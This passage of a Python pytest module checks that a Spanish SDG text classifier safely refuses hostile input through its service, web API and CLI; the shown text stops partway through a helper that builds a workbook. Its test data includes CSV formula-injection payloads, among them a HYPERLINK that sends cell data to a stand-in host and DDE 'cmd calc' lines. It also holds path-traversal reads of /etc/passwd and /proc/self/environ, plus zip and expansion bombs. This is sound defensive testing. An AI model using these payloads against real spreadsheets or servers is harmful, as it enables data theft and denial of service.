"""Hostile input on every path: the service (all cases), the live app through ``gradio_client``
(a representative subset) and the ``python -m odsgr`` CLI (another subset).

Every case expects either an answer or a clear Spanish message; none may crash the process, show a
traceback, leave a half-written file or change the stored models and data (checked at the end of
the module with the SHA-256 of every file under the home).
"""

from __future__ import annotations

import codecs
import hashlib
import json
import os
import re
import shutil
import subprocess
import tempfile
import time
import uuid
import zipfile
from collections.abc import Callable, Iterator
from pathlib import Path

import httpx
import openpyxl
import pandas as pd
import pytest
from conftest import REPO_ROOT, launched_app, run_cli
from gradio_client import Client, handle_file
from gradio_client.exceptions import AppError

from odsgr import data, ui
from odsgr.access import AccessPolicy
from odsgr.batch import BatchOptions
from odsgr.config import Settings
from odsgr.errors import DataError
from odsgr.registry import TMP_PREFIX
from odsgr.service import Service

MAX_FILE_MB = 2.0  # small, so the zip bomb and the 2 GB file are refused quickly
MAX_TEXT_CHARS = 20_000
APP_MAX_BATCH = 50
SERVICE_MAX_BATCH = 300

SPANISH = (
    "La escuela rural no tiene maestros suficientes y los niños caminan dos horas para llegar; "
    "pedimos transporte escolar y aulas dignas."
)
ENGLISH = (
    "The school in our neighbourhood has no teachers and the children have to walk for hours "
    "to get to class; we ask the council for a bus and for more teachers."
)
FRENCH = (
    "L'école de notre quartier n'a pas assez de professeurs et les enfants doivent marcher "
    "des heures pour aller en classe; nous demandons un bus scolaire."
)
PORTUGUESE = (
    "A escola do nosso bairro não tem professores suficientes e as crianças precisam caminhar "
    "horas para chegar às aulas; pedimos transporte escolar para elas."
)
ARABIC = "المدرسة في حينا ليس فيها معلمون كافيون والأطفال يمشون ساعتين للوصول إليها"
HEBREW = "בבית הספר בשכונה שלנו אין מספיק מורים והילדים הולכים שעתיים כדי להגיע"
FORMULAS = (
    '=HYPERLINK("http://ejemplo.invalid/robar?d="&A1,"Haga clic")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
)
NOT_SPANISH = "no parece estar en español"
EMPTY = "vacío"
NOT_A_STRING = "debe ser una cadena de caracteres"
TRUNCATED = f"supera {MAX_TEXT_CHARS} caracteres"


# ----------------------------------------------------------------------------- fixtures


STORED = ("models", "data/history", "data/pending", "data/validation.parquet")


def _tree_digest(home: Path) -> dict[str, str]:
    """SHA-256 of every stored model and labelled-data file (what no input may change)."""
    digests = {}
    for stored in STORED:
        root = home / stored
        paths = [root] if root.is_file() else sorted(root.rglob("*")) if root.is_dir() else []
        for path in paths:
            if path.is_file() and path.name != ".retrain.lock":
                relative = str(path.relative_to(home))
                digests[relative] = hashlib.sha256(path.read_bytes()).hexdigest()
    return digests


def _leftovers(folder: Path) -> list[Path]:
    """Temporary files an interrupted write would leave behind."""
    return [p for p in folder.rglob("*") if p.name.startswith(TMP_PREFIX)]


@pytest.fixture(scope="module")
def home(trained_home: Path, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Path]:
    """A private copy of the trained home; at the end nothing stored in it may have changed."""
    target = tmp_path_factory.mktemp("hostile") / "home"
    shutil.copytree(trained_home, target)
    before = _tree_digest(target)
    yield target
    assert _tree_digest(target) == before, "hostile input changed stored models or data"
    assert not _leftovers(target), "a write left a temporary file behind"


@pytest.fixture(scope="module")
def service(home: Path) -> Service:
    return Service(
        Settings(
            home=home,
            max_file_mb=MAX_FILE_MB,
            max_text_chars=MAX_TEXT_CHARS,
            max_batch_texts=SERVICE_MAX_BATCH,
        )
    )


@pytest.fixture(scope="module")
def files(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Path]:
    folder = tmp_path_factory.mktemp("hostile_files")
    yield folder
    assert not _leftovers(folder), "an output writer left a temporary file behind"


# ----------------------------------------------------------------------------- texts

# (value, expected error message or None, expected warning or None)
TEXT_CASES = {
    "empty": ("", EMPTY, None),
    "spaces": ("     ", EMPTY, None),
    "whitespace_mix": (" \n\t\r\u00a0\u2003 ", EMPTY, None),
    "control_chars_only": ("\x00\x01\x02\x7f\x1b", EMPTY, None),
    "zero_width_only": ("\u200b\u200c\u200d\ufeff", EMPTY, None),
    "none": (None, NOT_A_STRING, None),
    "integer": (42, NOT_A_STRING, None),
    "float": (3.14, NOT_A_STRING, None),
    "nan": (float("nan"), NOT_A_STRING, None),
    "boolean": (True, NOT_A_STRING, None),
    "list": (["La escuela no tiene maestros"], NOT_A_STRING, None),
    "nested_list": ([["La escuela"], ["no tiene maestros"]], NOT_A_STRING, None),
    "dict": ({"text": SPANISH}, NOT_A_STRING, None),
    "bytes": (SPANISH.encode(), NOT_A_STRING, None),
    "five_megabytes": ("La escuela no tiene maestros ni libros. " * 130_000, None, TRUNCATED),
    "five_megabytes_accents": ("Niñas y niños sin educación básica. " * 150_000, None, TRUNCATED),
    "one_huge_word": ("a" * 3_000_000, None, TRUNCATED),
    "nul_bytes_inside": (SPANISH.replace(" ", "\x00 ", 5), None, None),
    "control_chars_inside": ("\x1b[31m" + SPANISH + "\x07\x08", None, None),
    "lone_surrogate": (SPANISH + " \ud800", None, None),
    "right_to_left_arabic": (ARABIC, None, NOT_SPANISH),
    "right_to_left_hebrew": (HEBREW, None, NOT_SPANISH),
    "bidi_override": ("\u202e" + SPANISH + "\u202c", None, None),
    "emoji_only": ("😀🎉🙏🏽👩‍👩‍👧", None, "muy corto"),
    "english": (ENGLISH, None, NOT_SPANISH),
    "french": (FRENCH, None, NOT_SPANISH),
    "portuguese": (PORTUGUESE, None, NOT_SPANISH),
    "mojibake": (SPANISH.encode("utf-8").decode("cp1252"), None, None),
    "formula_text": (FORMULAS[0] + " " + SPANISH, None, None),
    "html_script": ("<script>alert('x')</script> " + SPANISH, None, None),
}


@pytest.mark.parametrize("case", TEXT_CASES)
def test_text_through_the_service(service: Service, case: str) -> None:
    value, error, warning = TEXT_CASES[case]
    if error:
        with pytest.raises(DataError, match=error):
            service.predict(value)
        return
    result = service.predict(value)
    assert 1 <= result.label <= 17 and 0 <= result.probability <= 1
    json.dumps(result.to_dict())  # the API answers JSON
    if warning:
        assert any(warning in w for w in result.warnings), result.warnings
    else:
        assert not any(NOT_SPANISH in w for w in result.warnings), result.warnings


def test_spanish_text_has_no_warning(service: Service) -> None:
    assert service.predict(SPANISH).warnings == ()


# (value, expected error message or None)
BATCH_CASES = {
    "hundred_thousand_texts": (
        [SPANISH] * 100_000,
        f"Demasiados textos en una llamada \\(100000\\); el máximo es {SERVICE_MAX_BATCH}",
    ),
    "at_the_cap": ([f"{i}: {SPANISH}" for i in range(SERVICE_MAX_BATCH)], None),
    "empty_list": ([], None),
    "a_string": (SPANISH, "Se esperaba una lista de textos"),
    "a_dict": ({"texts": [SPANISH]}, "Se esperaba una lista de textos"),
    "none_inside": ([SPANISH, None], f"Texto 2 de la lista: .*{NOT_A_STRING}"),
    "number_inside": ([7], f"Texto 1 de la lista: .*{NOT_A_STRING}"),
    "nested_lists": ([[SPANISH], [[SPANISH]]], f"Texto 1 de la lista: .*{NOT_A_STRING}"),
    "empty_inside": ([SPANISH, SPANISH, "  "], f"Texto 3 de la lista: .*{EMPTY}"),
}


@pytest.mark.parametrize("case", BATCH_CASES)
def test_text_lists_through_the_service(service: Service, case: str) -> None:
    texts, error = BATCH_CASES[case]
    if error:
        with pytest.raises(DataError, match=error):
            service.predict_many(texts)
        return
    results = service.predict_many(texts)
    assert len(results) == len(texts)
    assert all(1 <= r.label <= 17 for r in results)


# ----------------------------------------------------------------------------- files


def _csv(path: Path, text: str, encoding: str = "utf-8") -> Path:
    path.write_bytes(text.encode(encoding))
    return path


def _zip(path: Path, entries: dict[str, bytes]) -> Path:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in entries.items():
            archive.writestr(name, content)
    return path


def make_xlsx_that_is_csv(folder: Path) -> Path:
    return _csv(folder / "en_realidad_csv.xlsx", f"textos\n{SPANISH}\n{FRENCH}\n")


def make_zip_bomb(folder: Path) -> Path:
    # 60 MB of zeros (about 60 kB compressed) inside something that looks like a workbook.
    zeros = b"\0" * (60 * 1024 * 1024)
    entries = {"[Content_Types].xml": b"<Types/>", "xl/workbook.xml": b"<workbook/>"}
    return _zip(folder / "bomba.xlsx", {**entries, "xl/worksheets/sheet1.xml": zeros})


def make_zip_not_workbook(folder: Path) -> Path:
    return _zip(folder / "comprimido.xlsx", {"leeme.txt": SPANISH.encode()})


def make_ten_thousand_columns(folder: Path) -> Path:
    header = ",".join(f"c{i}" for i in range(10_000))
    return _csv(folder / "diez_mil_columnas.csv", f"{header}\n{','.join(['x'] * 10_000)}\n")


def make_two_gigabytes_csv(folder: Path) -> Path:
    path = folder / "dos_gigas.csv"
    with open(path, "wb") as handle:
        handle.truncate(2 * 1024**3)  # sparse: announced by size, nothing is written
    return path


def make_two_gigabytes_xlsx(folder: Path) -> Path:
    path = folder / "dos_gigas.xlsx"
    with open(path, "wb") as handle:
        handle.truncate(2 * 1024**3)
    return path


def make_binary_garbage(folder: Path) -> Path:
    path = folder / "binario.csv"
    path.write_bytes(b"\0" * 8192 + os.urandom(4096))
    return path


def make_mixed_encodings(folder: Path) -> Path:
    lines = [
        b"textos",
        "Los niños de la vereda no tienen escuela ni maestros.".encode(),
        "El puesto de salud no tiene médico ni medicinas.".encode("cp1252"),
    ]
    path = folder / "codificaciones_mezcladas.csv"
    path.write_bytes(b"\n".join(lines) + b"\n")
    return path


def make_utf16_without_bom(folder: Path) -> Path:
    return _csv(folder / "utf16.csv", f"textos\n{SPANISH}\n", "utf-16-le")


def make_bom_that_lies(folder: Path) -> Path:
    path = folder / "bom_falso.csv"
    path.write_bytes(codecs.BOM_UTF8 + b"textos\nLa escuela \xff\xfe no tiene\n")
    return path


def make_duplicated_headers(folder: Path) -> Path:
    return _csv(folder / "cabecera_repetida.csv", f"textos,textos\n{SPANISH},otro\n")


def make_formula_cells(folder: Path) -> Path:
    frame = pd.DataFrame({"textos": [f"{f} {SPANISH}" for f in FORMULAS], "=cmd()": FORMULAS})
    path = folder / "formulas.csv"
    frame.to_csv(path, index=False)
    return path


def make_empty(folder: Path) -> Path:
    return _csv(folder / "vacio.csv", "")


def make_header_only(folder: Path) -> Path:
    return _csv(folder / "solo_cabecera.csv", "textos\n")


def make_html_as_xlsx(folder: Path) -> Path:
    return _csv(folder / "pagina.xlsx", "<!DOCTYPE html><html><table><tr><td>x</td></tr></table>")


def make_parquet_named_csv(folder: Path) -> Path:
    path = folder / "es_parquet.csv"
    pd.DataFrame({"textos": [SPANISH]}).to_parquet(path)
    return path


def make_unknown_extension(folder: Path) -> Path:
    return _csv(folder / "programa.exe", "MZ\x90\x00")


def make_json_with_odd_values(folder: Path) -> Path:
    records = [
        {"textos": SPANISH},
        {"textos": None},
        {"textos": 12345},
        {"textos": ["lista", ["anidada"]]},
        {"textos": {"a": 1}},
        {"textos": "\x00\x01"},
    ]
    path = folder / "valores_raros.json"
    path.write_text(json.dumps(records), encoding="utf-8")
    return path


def make_json_not_records(folder: Path) -> Path:
    return _csv(folder / "no_registros.json", json.dumps("solo una cadena"))


def make_traversal_name(folder: Path) -> Path:
    # A legal file name on Linux that tries to look like a path.
    return _csv(folder / "..\\..\\etc\\passwd.csv", f"textos\n{SPANISH}\n")


def make_nul_and_controls_in_cells(folder: Path) -> Path:
    text = f'textos\n"{SPANISH}\x00\x07"\n"\x1b[2J{SPANISH}"\n'
    return _csv(folder / "controles.csv", text)


def make_hundred_thousand_rows(folder: Path) -> Path:
    path = folder / "cien_mil.csv"
    texts = [f"Texto {i}: la escuela no tiene maestros." for i in range(100_000)]
    pd.DataFrame({"textos": texts}).to_csv(path, index=False)
    return path


# (builder, expected error (regex) or None for an answer)
FILE_CASES: dict[str, tuple[Callable[[Path], Path], str | None]] = {
    "xlsx_that_is_a_csv": (make_xlsx_that_is_csv, None),
    "zip_bomb_renamed_xlsx": (make_zip_bomb, "al descomprimirlo"),
    "zip_that_is_no_workbook": (make_zip_not_workbook, "no un libro de Excel"),
    "ten_thousand_columns": (make_ten_thousand_columns, "10.000 columnas; el máximo admitido"),
    "two_gigabytes_csv": (make_two_gigabytes_csv, "ocupa 2048,0 MB y el límite es 2,0 MB"),
    "two_gigabytes_xlsx": (make_two_gigabytes_xlsx, "ocupa 2048,0 MB y el límite es 2,0 MB"),
    "binary_garbage": (make_binary_garbage, "no parece un archivo de texto"),
    "mixed_encodings": (make_mixed_encodings, None),
    "utf16_without_bom": (make_utf16_without_bom, None),
    "bom_that_lies": (make_bom_that_lies, "UTF-8-SIG.*bytes no válidos"),
    "duplicated_headers": (make_duplicated_headers, "repite nombres de columna"),
    "formula_cells": (make_formula_cells, None),
    "empty_file": (make_empty, "está vacío"),
    "header_only": (make_header_only, "ninguna fila de datos"),
    "html_renamed_xlsx": (make_html_as_xlsx, "página HTML"),
    "parquet_renamed_csv": (make_parquet_named_csv, "parece un archivo Parquet"),
    "unknown_extension": (make_unknown_extension, "No se reconoce el formato"),
    "json_odd_values": (make_json_with_odd_values, None),
    "json_not_records": (make_json_not_records, "lista de registros"),
    "traversal_file_name": (make_traversal_name, None),
    "nul_and_controls_in_cells": (make_nul_and_controls_in_cells, None),
}


@pytest.mark.parametrize("case", FILE_CASES)
def test_file_through_the_ui_reader_and_the_batch_writer(
    service: Service, files: Path, case: str
) -> None:
    """The app's reader (``data.load_texts``) and the streaming batch path agree on every file."""
    builder, error = FILE_CASES[case]
    folder = files / case
    folder.mkdir()
    path = builder(folder)
    output = folder / "salida" / "resultado.csv"
    if error:
        with pytest.raises(DataError, match=error):
            data.load_texts(path, settings=service.settings)
        with pytest.raises(DataError, match=error):
            service.predict_file(path, output)
        assert not output.parent.exists() or not list(output.parent.iterdir())
        return
    frame, column = data.load_texts(path, settings=service.settings)
    expected = service.predict_frame(frame, column)
    written = service.predict_file(path, output)
    assert written == output and sorted(output.parent.iterdir()) == [output]
    result = pd.read_csv(output, encoding="utf-8-sig", dtype=str, keep_default_na=False)
    assert len(result) == len(expected)
    assert result["label"].tolist() == [
        "" if pd.isna(v) else str(v) for v in expected["label"].tolist()
    ]


def test_mixed_encodings_are_repaired(service: Service, files: Path) -> None:
    frame, column = data.load_texts(make_mixed_encodings(files), settings=service.settings)
    texts = [data.clean_text(t) for t in frame[column]]
    assert texts == [
        "Los niños de la vereda no tienen escuela ni maestros.",
        "El puesto de salud no tiene médico ni medicinas.",
    ]


def test_odd_json_values_get_no_label(service: Service, files: Path) -> None:
    folder = files / "json_labels"
    folder.mkdir()
    output = service.predict_file(make_json_with_odd_values(folder), folder / "r.csv")
    result = pd.read_csv(output, encoding="utf-8-sig", keep_default_na=False, dtype=str)
    assert result["label"].tolist()[0] != ""
    assert result["label"].tolist()[1:] == [""] * 5  # null, number, lists, dict, controls only


def _output_columns(output: Path) -> dict[str, list]:
    """The written table as ``{header: cells}``, text as written (CSV) or as stored (XLSX)."""
    if output.suffix == ".csv":
        frame = pd.read_csv(output, encoding="utf-8-sig", dtype=str, keep_default_na=False)
        return {column: frame[column].tolist() for column in frame.columns}
    rows = [[c.value for c in row] for row in openpyxl.load_workbook(output).active.iter_rows()]
    return {header: [row[i] for row in rows[1:]] for i, header in enumerate(rows[0])}


@pytest.mark.parametrize("extension", [".csv", ".xlsx"])
def test_parquet_dictionary_columns_are_escaped_and_numbers_kept(
    service: Service, files: Path, extension: str
) -> None:
    folder = files / f"diccionario{extension}"
    folder.mkdir()
    source = folder / "diccionario.parquet"
    pd.DataFrame(
        {
            "textos": pd.Categorical([f"{f} {SPANISH}" for f in FORMULAS]),
            "origen": pd.Categorical(FORMULAS),
            "saldo": [-3.5, 2.0, -1.25, 0.5, 4.0],
            "telefono": ["+573001234567", "-12", "+1e3", "3001234567", "+57 300"],
        }
    ).to_parquet(source)  # categorical columns are stored as Parquet dictionaries
    columns = _output_columns(service.predict_file(source, folder / f"r{extension}"))
    assert [str(v) for v in columns["origen"]] == ["'" + f for f in FORMULAS]
    assert all(str(v).startswith("'") for v in columns["textos"])
    assert [float(v) for v in columns["saldo"]] == [-3.5, 2.0, -1.25, 0.5, 4.0]
    assert [str(v) for v in columns["telefono"]] == [
        "+573001234567",
        "-12",
        "+1e3",
        "3001234567",
        "'+57 300",
    ]


@pytest.mark.parametrize("extension", [".csv", ".xlsx"])
def test_formula_cells_are_escaped_in_every_output(
    service: Service, files: Path, extension: str
) -> None:
    folder = files / f"formulas{extension}"
    folder.mkdir()
    output = service.predict_file(make_formula_cells(folder), folder / f"r{extension}")
    if extension == ".csv":
        frame = pd.read_csv(output, encoding="utf-8-sig", dtype=str)
        header, cells = list(frame.columns), frame.to_numpy().ravel().tolist()
    else:
        sheet = openpyxl.load_workbook(output).active
        rows = [[c.value for c in row] for row in sheet.iter_rows()]
        header, cells = rows[0], [v for row in rows[1:] for v in row]
    assert "'=cmd()" in header
    texts = [c for c in cells if isinstance(c, str)]
    assert all(not t.startswith(("=", "+", "-", "@", "\t")) for t in texts), texts
    assert sum(t.startswith("'") for t in texts) >= 2 * len(FORMULAS)


def test_hundred_thousand_rows_are_streamed(home: Path, files: Path) -> None:
    folder = files / "cien_mil"
    folder.mkdir()
    steps: list[float] = []
    output = Service(Settings(home=home)).predict_file(
        make_hundred_thousand_rows(folder),
        folder / "r.csv",
        BatchOptions(workers=1, chunk_rows=20_000),
        progress=lambda fraction, _: steps.append(fraction),
    )
    result = pd.read_csv(output, encoding="utf-8-sig", usecols=["label"])
    assert len(result) == 100_000 and result["label"].notna().all()
    assert len(steps) >= 5  # chunk by chunk, never the whole file at once


LABEL_CASES = {
    "zero_and_eighteen": ([3, 0, 18], "fila 3: «0».*fila 4: «18»"),
    "negative_and_decimal": (["-3", "3.5", 4], "fila 2: «-3».*fila 3: «3.5»"),
    "words": (["salud", "ODS 3", "ODS 99"], "fila 2: «salud».*fila 4: «ODS 99»"),
    "empty_label": (["", 3, 4], "fila 2: \\(vacío\\)"),
}


@pytest.mark.parametrize("case", LABEL_CASES)
def test_labels_outside_one_to_seventeen(service: Service, files: Path, case: str) -> None:
    labels, rows = LABEL_CASES[case]
    path = files / f"etiquetas_{case}.csv"
    texts = [f"{SPANISH} ({i})" for i in range(len(labels))]
    pd.DataFrame({"textos": texts, "labels": labels}).to_csv(path, index=False)
    with pytest.raises(DataError, match="no son un ODS del 1 al 17") as refused:
        service.retrain(paths=[path], auto_promote=False)
    assert re.search(rows, str(refused.value)), str(refused.value)


def test_labelled_file_with_duplicated_headers_is_refused(service: Service, files: Path) -> None:
    path = _csv(files / "etiquetas_repetidas.csv", f"textos,labels,labels\n{SPANISH},3,4\n")
    with pytest.raises(DataError, match="repite nombres de columna: «labels»"):
        service.retrain(paths=[path], auto_promote=False)


@pytest.mark.parametrize(
    "output",
    ["../../fuera.exe", "resultado", "resultado.csv.sh", "/dev/null", "/tmp"],
)
def test_output_paths_other_than_csv_or_xlsx_are_refused(
    service: Service, files: Path, output: str
) -> None:
    source = files / "entrada.csv"
    source.write_text(f"textos\n{SPANISH}\n", encoding="utf-8")
    before = set(files.rglob("*"))
    with pytest.raises(DataError, match="Solo se puede guardar en .csv o .xlsx"):
        service.predict_file(source, output if output.startswith("/") else files / output)
    assert set(files.rglob("*")) == before


def test_missing_file_named_like_a_traversal(service: Service) -> None:
    with pytest.raises(DataError, match="No se encuentra el archivo «passwd.csv»"):
        data.load_texts("../../etc/passwd.csv", settings=service.settings)


# ----------------------------------------------------------------------------- the live app


@pytest.fixture(scope="module")
def app_url(home: Path) -> Iterator[str]:
    app_service = Service(
        Settings(home=home, max_file_mb=MAX_FILE_MB, max_batch_texts=APP_MAX_BATCH)
    )
    with launched_app(app_service) as url:
        yield url


@pytest.fixture(scope="module")
def client(app_url: str) -> Client:
    return Client(app_url, verbose=False)


def _refused(client: Client, *args: object, api_name: str) -> str:
    with pytest.raises(AppError) as refused:
        client.predict(*args, api_name=api_name)
    message = str(refused.value)
    assert "Traceback" not in message and 'File "' not in message, message
    return message


API_TEXT_CASES = {
    "empty": ("", EMPTY),
    "whitespace": (" \n\t ", EMPTY),
    "null": (None, NOT_A_STRING),
    "number": (42, NOT_A_STRING),
    "nested_list": ([["a"], ["b"]], NOT_A_STRING),
    "nul_bytes_only": ("\x00\x00\x00", EMPTY),
}


@pytest.mark.parametrize("case", API_TEXT_CASES)
def test_bad_text_through_the_api(client: Client, case: str) -> None:
    value, message = API_TEXT_CASES[case]
    assert message in _refused(client, value, api_name="/predict")


@pytest.mark.parametrize(
    ("value", "warning"),
    [
        ("Niñas y niños sin educación básica. " * 150_000, TRUNCATED),
        (ENGLISH, NOT_SPANISH),
        ("😀🎉🙏🏽", "muy corto"),
        (ARABIC, None),
    ],
    ids=["five_megabytes", "english", "emoji_only", "right_to_left"],
)
def test_odd_but_valid_text_through_the_api(client: Client, value: str, warning: str) -> None:
    result = client.predict(value, api_name="/predict")
    assert 1 <= result["label"] <= 17
    if warning:
        assert any(warning in w for w in result["warnings"]), result["warnings"]


def test_bad_lists_through_the_api(client: Client) -> None:
    many = _refused(client, [SPANISH] * 100_000, api_name="/predict_batch")
    assert f"Demasiados textos en una llamada (100000); el máximo es {APP_MAX_BATCH}" in many
    assert "lista JSON" in _refused(client, "esto no es JSON", api_name="/predict_batch")
    assert "Texto 2 de la lista" in _refused(client, [SPANISH, None], api_name="/predict_batch")
    answered = client.predict([SPANISH] * APP_MAX_BATCH, api_name="/predict_batch")
    assert len(answered) == APP_MAX_BATCH


@pytest.mark.parametrize(
    ("builder", "message"),
    [
        (make_zip_bomb, "al descomprimirlo"),
        (make_ten_thousand_columns, "10.000 columnas"),
        (make_duplicated_headers, "repite nombres de columna"),
        (make_binary_garbage, "no parece un archivo de texto"),
    ],
    ids=["zip_bomb", "ten_thousand_columns", "duplicated_headers", "binary"],
)
def test_bad_files_through_the_api(client: Client, files: Path, builder, message: str) -> None:
    folder = files / f"api_{builder.__name__}"
    folder.mkdir()
    refused = _refused(client, handle_file(str(builder(folder))), "", api_name="/predict_file")
    assert message in refused


def test_traversal_named_upload_writes_only_to_the_downloads_folder(
    client: Client, files: Path
) -> None:
    folder = files / "api_traversal"
    folder.mkdir()
    result_path, summary = client.predict(
        handle_file(str(make_traversal_name(folder))), "", api_name="/predict_file"
    )
    assert summary["rows"] == 1 and summary["classified"] == 1
    assert Path(result_path).name == "odsgr_resultados.csv"
    assert not (Path(tempfile.gettempdir()) / "etc" / "passwd.csv").exists()
    assert sorted(p.name for p in folder.iterdir()) == ["..\\..\\etc\\passwd.csv"]


def _call_raw(url: str, api_name: str, payload: list) -> dict:
    """Call a named endpoint with raw JSON (no client-side upload), return its final message."""
    session = uuid.uuid4().hex
    config = httpx.get(url + "config").json()
    fn_index = next(
        i for i, d in enumerate(config["dependencies"]) if d.get("api_name") == api_name
    )
    inputs = config["dependencies"][fn_index]["inputs"]
    payload = payload + [None] * (len(inputs) - len(payload))  # optional inputs left empty
    body = {"data": payload, "fn_index": fn_index, "session_hash": session}
    joined = httpx.post(
        url + "gradio_api/queue/join",
        content=json.dumps(body, ensure_ascii=True),
        headers={"Content-Type": "application/json"},
    )
    if joined.status_code != 200:
        return {"success": False, "status": joined.status_code, "output": {"error": joined.text}}
    with httpx.stream(
        "GET", url + "gradio_api/queue/data", params={"session_hash": session}, timeout=60
    ) as stream:
        for line in stream.iter_lines():
            if line.startswith("data:"):
                message = json.loads(line[5:])
                if message.get("msg") == "process_completed":
                    return message
    raise AssertionError("the endpoint never completed")


@pytest.mark.parametrize("path", ["/etc/passwd", "../../../../etc/passwd", "/proc/self/environ"])
def test_api_never_reads_a_server_path_it_was_not_sent(app_url: str, path: str) -> None:
    message = _call_raw(
        app_url, "predict_file", [{"path": path, "meta": {"_type": "gradio.FileData"}}, ""]
    )
    assert message["success"] is False
    text = json.dumps(message, ensure_ascii=False)
    assert "root:" not in text and "Traceback" not in text and "HF_TOKEN" not in text


def test_lone_surrogate_sent_as_raw_json(app_url: str) -> None:
    # gradio_client cannot even encode it; a hand-written JSON body can ("\\ud800").
    message = _call_raw(app_url, "predict", [SPANISH + " \ud800", False])
    text = json.dumps(message, ensure_ascii=True)
    assert "Traceback" not in text
    if message["success"]:
        assert 1 <= message["output"]["data"][0]["label"] <= 17
    else:
        assert message["output"]["error"], message


def test_bad_history_filters_through_the_api(client: Client) -> None:
    assert "Filtro de ODS no válido" in _refused(client, "99", "", "", 1, 5, api_name="/history")
    page = client.predict("", "", "", -7, 10**9, api_name="/history")
    assert page["page"] == 1 and len(page["rows"]) <= 1000


# ----------------------------------------------------------------------------- the CLI


def _cli(*argv: str, home: Path) -> subprocess.CompletedProcess:
    """``python -m odsgr ARGV --home HOME`` run in this process (``run_cli``), with the
    test's file-size limit."""
    return run_cli(*argv, "--home", str(home), env={"ODSGR_MAX_FILE_MB": str(MAX_FILE_MB)})


def test_hostile_input_through_the_cli(
    home: Path, files: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Refusals through the command line (run from the checkout, as the relative paths
    assume): exit 2, one clear line, no traceback, nothing written."""
    monkeypatch.chdir(REPO_ROOT)
    folder = files / "cli"
    folder.mkdir()
    bad_labels = folder / "etiquetas.csv"
    pd.DataFrame({"textos": [SPANISH, FRENCH], "labels": [3, 99]}).to_csv(bad_labels, index=False)
    out = folder / "salida.csv"
    cases = {
        "traversal_input": (
            ["predict", "--input", "../../etc/passwd.csv", "--output", str(out)],
            "No se encuentra el archivo «passwd.csv»",
        ),
        "zip_bomb": (
            ["predict", "--input", str(make_zip_bomb(folder)), "--output", str(out)],
            "al descomprimirlo",
        ),
        "two_gigabytes_train": (
            ["train", "--data", str(make_two_gigabytes_csv(folder))],
            "ocupa 2048,0 MB",
        ),
        "two_gigabytes_predict_unlimited": (
            ["predict", "--input", str(make_two_gigabytes_xlsx(folder)), "--output", str(out)],
            "no parece un archivo de texto",
        ),
        "ten_thousand_columns": (
            ["predict", "--input", str(make_ten_thousand_columns(folder)), "--output", str(out)],
            "10.000 columnas",
        ),
        "output_extension": (
            ["predict", "--input", str(make_formula_cells(folder)), "--output", "../x.sh"],
            "Solo se puede guardar en .csv o .xlsx",
        ),
        "labels_out_of_range": (
            ["retrain", "--data", str(bad_labels)],
            "no son un ODS del 1 al 17 (se admite 3, «ODS 3», «SDG 3»… u «otro»): fila 3: «99»",
        ),
    }
    for name, (argv, _) in cases.items():
        result = _cli(*argv, home=home)
        stdout, stderr = result.stdout, result.stderr
        assert result.returncode == 2, (name, stdout, stderr)
        assert "Traceback" not in stderr and "Traceback" not in stdout, (name, stderr)
        assert cases[name][1] in stderr, (name, stderr)
        assert stderr.strip().splitlines()[-1].startswith("error: "), (name, stderr)
    assert not out.exists() and not (REPO_ROOT.parent / "x.sh").exists()


# ----------------------------------------------------------------- expansion bombs (issue 12)

EXPANDED = Settings(max_file_mb=50, max_expanded_mb=2)  # a 2 MB budget for decoded content
LONG_TEXT = (SPANISH + " ") * 2_500  # about 340,000 characters


def test_a_parquet_repeating_one_long_text_is_refused_before_decoding(tmp_path: Path) -> None:
    path = tmp_path / "repetido.parquet"
    # 100 rows of the same 340 kB text: a few kB on disk (dictionary page), 34 MB decoded.
    pd.DataFrame({"textos": [LONG_TEXT] * 100, "labels": [4] * 100}).to_parquet(path)
    assert path.stat().st_size < 100_000
    with pytest.raises(DataError, match="se expande a más de 2,0 MB"):
        data.read_table(path, EXPANDED)
    assert len(data.read_table(path, Settings(max_expanded_mb=64))) == 100


def test_an_xlsx_inflating_far_beyond_the_budget_is_refused(tmp_path: Path) -> None:
    # A genuine workbook plus a padding member: 5 MB inflated (the old limit was 20 x 50 MB).
    path = tmp_path / "inflado.xlsx"
    pd.DataFrame({"textos": [SPANISH], "labels": [4]}).to_excel(path, index=False)
    with zipfile.ZipFile(path, "a", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("xl/media/relleno.bin", b"\0" * (5 * 1024 * 1024))
    with pytest.raises(DataError, match="al descomprimirlo.*ODSGR_MAX_EXPANDED_MB"):
        data.read_table(path, EXPANDED)


_MAIN_NS = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
_REL_NS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_PACKAGE_RELS = "http://schemas.openxmlformats.org/package/2006/relationships"
_CONTENT = "application/vnd.openxmlformats-officedocument.spreadsheetml"


def make_shared_string_bomb(path: Path, text: str, rows: int) -> Path:
    """A hand-made workbook whose ``rows`` cells all point at one shared string ``text``."""
    cells = "".join(
        f'<row r="{i}"><c r="A{i}" t="s"><v>1</v></c></row>' for i in range(2, rows + 2)
    )
    return _zip(
        path,
        {
            "[Content_Types].xml": (
                '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
                '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.'
                'relationships+xml"/><Default Extension="xml" ContentType="application/xml"/>'
                f'<Override PartName="/xl/workbook.xml" ContentType="{_CONTENT}.sheet.main+xml"/>'
                '<Override PartName="/xl/worksheets/sheet1.xml" '
                f'ContentType="{_CONTENT}.worksheet+xml"/>'
                '<Override PartName="/xl/sharedStrings.xml" '
                f'ContentType="{_CONTENT}.sharedStrings+xml"/></Types>'
            ).encode(),
            "_rels/.rels": (
                f'<Relationships xmlns="{_PACKAGE_RELS}"><Relationship Id="rId1" '
                f'Type="{_REL_NS}/officeDocument" Target="xl/workbook.xml"/></Relationships>'
            ).encode(),
            "xl/workbook.xml": (
                f'<workbook xmlns="{_MAIN_NS}" xmlns:r="{_REL_NS}"><sheets>'
                '<sheet name="Hoja1" sheetId="1" r:id="rId1"/></sheets></workbook>'
            ).encode(),
            "xl/_rels/workbook.xml.rels": (
                f'<Relationships xmlns="{_PACKAGE_RELS}">'
                f'<Relationship Id="rId1" Type="{_REL_NS}/worksheet" '
                'Target="worksheets/sheet1.xml"/>'
